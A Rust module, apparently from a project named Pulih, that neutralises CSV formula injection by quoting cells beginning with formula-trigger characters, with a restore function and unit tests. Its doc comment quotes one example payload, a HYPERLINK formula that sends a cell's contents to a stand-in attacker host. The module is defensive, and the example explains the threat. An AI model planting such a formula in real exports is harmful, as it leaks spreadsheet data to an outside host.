//! CSV cells that a spreadsheet cannot run. A cell beginning with `=`, `+`, `-` or `@`
//! (or a tab or carriage return, which some spreadsheets skip before looking) is read by
//! Excel, LibreOffice and Google Sheets as a formula, so a service name such as
//! `=HYPERLINK("http://evil.example/?"&A2)` in an export would run on the reader's
//! machine. Every CSV Pulih writes passes its cells through [`neutralise`], which puts a
//! single quote in front of such a cell (OWASP's advice); Pulih's own imports read cells
//! through [`restore`], so an export imported again is unchanged.

use std::borrow::Cow;

/// What makes a spreadsheet read a cell as a formula when it comes first.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as written: a quote in front when a spreadsheet would read it as a formula.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(TRIGGERS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The cell as it was before [`neutralise`].
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(TRIGGERS) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_quoted_and_restored() {
        for cell in ["=1+1", "+62 812 0000", "-5", "@SUM(A1)", "\tx", "\rx"] {
            let written = neutralise(cell);
            assert_eq!(written, format!("'{cell}"));
            assert_eq!(restore(&written), cell);
        }
    }

    #[test]
    fn other_cells_are_left_alone() {
        for cell in ["", "Klinik Pratama", "0812", "'quoted", "a=b"] {
            assert_eq!(neutralise(cell), cell);
            assert_eq!(restore(cell), cell);
        }
    }
}
